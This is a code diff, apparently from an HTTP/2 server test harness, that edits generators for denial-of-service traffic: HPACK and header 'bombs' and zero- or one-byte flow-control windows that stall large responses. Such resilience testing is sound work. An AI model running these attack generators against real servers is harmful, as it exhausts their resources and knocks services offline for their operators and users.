@@ -66,7 +66,7 @@ def hpack_bomb(identity):
     block = literal("x-bomb", "a" * 4000, indexed=True)
     bomb = length(62, 7, 0x80) * 16_000
     yield get(1, request(identity) + block)
-    return (yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:]))
+    yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:])
 
 
 def header_bomb(identity):
@@ -74,14 +74,21 @@ def header_bomb(identity):
     block = literal("x-bomb", "a" * 4000, indexed=True)
     bomb = length(62, 7, 0x80) * 24
     yield get(1, request(identity) + block)
-    return (yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:]))
+    yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:])
+
+
+def large_answers(identity):
+    """A hundred of them asked for, not so fast that the asking is the attack."""
+    block = request(identity, "/large")
+    for first in range(0, 100, 10):
+        yield b"".join(get(stream, block) for stream in STREAMS[first : first + 10])
+        yield from [None] * 10
 
 
 def zero_window(identity):
-    """A hundred large answers asked for, and none taken."""
+    """Large answers, and none taken."""
     yield settings((INITIAL_WINDOW_SIZE, 0))
-    block = request(identity, "/large")
-    yield b"".join(get(stream, block) for stream in STREAMS[:100])
+    yield from large_answers(identity)
     while True:
         yield None
 
@@ -89,8 +96,7 @@ def zero_window(identity):
 def tiny_window(identity):
     """The same, taken byte by byte."""
     yield settings((INITIAL_WINDOW_SIZE, 1))
-    block = request(identity, "/large")
-    yield b"".join(get(stream, block) for stream in STREAMS[:100])
+    yield from large_answers(identity)
     more = b"".join(window_update(stream, 1) for stream in STREAMS[:100])
     while True:
         yield more
